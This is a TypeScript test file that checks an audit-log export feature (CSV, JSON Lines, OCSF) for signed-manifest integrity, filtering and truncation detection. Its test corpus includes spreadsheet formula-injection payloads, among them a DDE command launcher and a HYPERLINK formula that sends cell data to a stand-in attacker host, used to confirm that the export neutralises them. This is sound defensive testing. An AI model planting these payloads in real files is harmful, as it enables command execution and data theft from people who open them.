import { createWriteStream, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { systemClock } from '#kernel';
import { SnapshotReads, UnitOfWork } from '#database';
import { asOwner, startFeature, type TestFeature } from '#testing';
import type { AuditDocument } from '../document/audit-document.js';
import { CSV_COLUMNS } from '../document/csv-row.js';
import { EXPORT_FORMATS, type ExportFormat, type Manifest } from '../document/manifest.js';
import type { LogFilter } from '../search/log-filter.js';
import { LogKeys } from '../signing/log-keys.js';
import { newSigner } from '../testing/exported.js';
import { fillLog } from '../testing/filled-log.js';
import { madeUpChain, rewritten, TENANT } from '../testing/made-up-chain.js';
import '../../../logon/src/events.js';
import { ocsfEvent } from '../testing/ocsf-event.js';
import { verifyFile } from '../verification/verify-file.js';
import { WriteExport } from './write-export.js';

/** Texts that a spreadsheet would execute or follow at the beginning of a cell. */
const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.test/?"&A1,"click")',
  '+1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  `'=1+1`,
  `''`,
  '＝1+1',
  '＋1',
];
const TEXTS = [
  ...FORMULAS,
  'two\nlines, "quoted", 小王 😀 \u200f',
  '\u0001\u0002\u001f\u007f\u0085\u2028',
  '\\N',
  '\\.',
  ' leading, and trailing ',
  'null',
  ...fc.sample(fc.string({ unit: 'binary', minLength: 1 }), { seed: 3, numRuns: 40 }),
].map((text) => text.replaceAll('\0', '').replaceAll(/\p{Surrogate}/gu, '?') || '?');

/** A chain in which every text from outside contains something of the corpus. */
function corpus(): readonly AuditDocument[] {
  let chain = madeUpChain(TEXTS.length);
  for (const [index, text] of TEXTS.entries()) {
    chain = rewritten(chain, index + 1, {
      reason: text,
      method: text,
      correlationId: text,
      targets: [
        { kind: 'account', id: text, label: text },
        { kind: text, id: text },
      ],
      browser: { ip: '203.0.113.9', userAgent: text, name: text, os: text },
      phone: { ip: '2001:db8::9', userAgent: text, name: null, os: text },
      detail: { [text]: text, nested: [text, { text }] },
    });
  }
  return chain;
}

describe('an export of the log', () => {
  const chain = corpus();
  const signer = newSigner();
  const folder = mkdtempSync(join(tmpdir(), 'openeiam-export-'));
  let feature: TestFeature;

  beforeAll(async () => {
    feature = await startFeature([]);
    await fillLog(feature.database, chain, signer);
  });
  afterAll(async () => {
    rmSync(folder, { recursive: true, force: true });
    await feature.close();
  });

  const logKeys = () => new LogKeys(systemClock, feature.app.get(UnitOfWork), signer);

  async function write(format: ExportFormat, filter: LogFilter = {}, upTo = chain.length) {
    const file = join(folder, format);
    const spec = { tenant: { id: TENANT, slug: 'spec' }, format, filter, asked: {}, upTo };
    const manifest = await feature.app.get(SnapshotReads).run(TENANT, (snapshot) =>
      new WriteExport(systemClock, signer, logKeys()).execute(snapshot, spec, {
        to: createWriteStream(file),
      }),
    );
    return { file, manifest, text: readFileSync(file, 'utf8') };
  }

  async function verdictOn(file: string, manifest: Manifest) {
    return verifyFile({ file, manifest: JSON.stringify(manifest), keys: signer.publicKeys() });
  }

  it.each(EXPORT_FORMATS)(
    'L4: as %s is proven by its manifest, and restores what was recorded',
    async (format) => {
      const { file, manifest } = await write(format);
      expect(await verdictOn(file, manifest)).toMatchObject({ intact: true, checked: chain.length });
      expect(manifest).toMatchObject({
        count: chain.length,
        firstSequence: 1,
        lastSequence: chain.length,
        contiguous: true,
        chain: { sequence: chain.length, hash: chain.at(-1)?.hash },
        anchors: [{ sequence: chain.length, hash: chain.at(-1)?.hash }],
      });
    },
  );

  it('L4: contains no cell that a spreadsheet takes for a formula, and marks changed cells by an apostrophe', async () => {
    const { text } = await write('csv');
    expect((await write('csv-excel')).text).toBe(`\uFEFF${text}`);
    const { data, errors } = Papa.parse<string[]>(text, { newline: '\n', skipEmptyLines: true });
    expect(errors).toEqual([]);
    const [header, ...lines] = data;
    expect(header).toEqual(CSV_COLUMNS);
    expect(lines).toHaveLength(chain.length);
    expect(lines.flat().filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/u.test(cell))).toEqual([]);
    for (const column of ['reason', 'browserAgent', 'browserName', 'phoneOs'] as const) {
      const cells = lines.map((line) => line[CSV_COLUMNS.indexOf(column)] ?? '');
      expect(cells.map((cell) => (cell.startsWith("'") ? cell.slice(1) : cell))).toEqual(TEXTS);
    }
  });

  it('L4: as JSON Lines has one document in each line, readable by any tool', async () => {
    const { text } = await write('jsonl');
    expect(
      text
        .trimEnd()
        .split('\n')
        .map((line): unknown => JSON.parse(line)),
    ).toEqual(chain);
  });

  it('L4: as OCSF gives in each event the attributes that its class requires, and the document', async () => {
    const { text } = await write('ocsf');
    const events = text
      .trimEnd()
      .split('\n')
      .map((line) => ocsfEvent.parse(JSON.parse(line)));
    expect(events.map(({ unmapped }) => unmapped)).toEqual(chain);
    expect(events[0]).toMatchObject({
      class_uid: 3002,
      type_uid: 300201,
      time: Date.parse(chain[0]?.occurredAt ?? ''),
      status_code: TEXTS[0],
      src_endpoint: { ip: '203.0.113.9' },
      user: { uid: TEXTS[0], name: TEXTS[0] },
    });
  });

  it('L4: of a selection contains only that selection, and says so', async () => {
    const { file, manifest } = await write('jsonl', { actorKind: 'account' });
    const selected = chain.filter(({ actor }) => actor.kind === 'account');
    expect(manifest).toMatchObject({ count: selected.length, firstSequence: 2, contiguous: false });
    expect(await verdictOn(file, manifest)).toMatchObject({ intact: true, checked: selected.length });
  });

  it('L4: treats every search text as a value', async () => {
    for (const text of TEXTS) {
      const { manifest } = await write('jsonl', { correlationId: text });
      expect(manifest.count).toBe(chain.filter(({ correlationId }) => correlationId === text).length);
    }
  });

  it('L4: ends with the last record at the time of the request, and can be empty', async () => {
    expect((await write('csv', {}, 3)).manifest).toMatchObject({ count: 3, lastSequence: 3 });
    const { manifest, file } = await write('csv', { correlationId: 'of nobody' });
    expect(manifest).toMatchObject({ count: 0, firstSequence: null, lastSequence: null, anchors: [] });
    expect(await verdictOn(file, manifest)).toMatchObject({ intact: true, checked: 0 });
  });

  it('L3, L4: of a truncated log is marked as unproven in the signed manifest, which so does not vouch for the gap', async () => {
    const cut = `update audit.chain c set last_sequence = 3, last_hash = r.hash, head = null
      from audit.record r where r.tenant_id = c.tenant_id and r.sequence = 3`;
    const { file, manifest } = await write('jsonl', {}, 3);
    await asOwner(feature.database, cut);
    const after = await write('jsonl', {}, 3);
    expect([manifest.unproven, after.manifest.unproven]).toEqual([undefined, 'end_unproven']);
    expect(await verdictOn(file, manifest)).toMatchObject({ intact: true });
    expect(await verdictOn(after.file, after.manifest)).toMatchObject({
      intact: false,
      problem: { code: 'export_unproven' },
    });
  });
});
